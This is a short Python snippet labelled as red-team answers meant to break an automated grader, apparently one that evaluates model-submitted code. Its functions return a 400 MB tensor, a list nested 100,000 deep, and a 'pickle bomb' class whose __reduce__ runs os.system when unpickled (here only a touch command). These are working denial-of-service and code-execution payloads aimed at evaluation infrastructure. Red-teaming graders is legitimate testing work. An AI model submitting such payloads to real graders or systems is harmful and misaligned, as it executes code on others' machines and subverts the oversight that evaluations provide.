# APPEND
# Red team: answers the grader cannot take: 400 MB, nesting 100,000 deep, a "pickle bomb".
# 红队：评分端无法接受的回答：400 MB 的张量、嵌套十万层的列表、“pickle 炸弹”。
import os as _os


def flatten_images(images):
    return torch.zeros(100_000_000)


def multiply(a, b):
    nested = []
    for _ in range(100_000):
        nested = [nested]
    return nested, nested


class _Bomb:
    def __reduce__(self):
        return (_os.system, ("touch /tmp/redteam-pickle-bomb-ran",))


def add_channel_dim(images):
    return _Bomb()
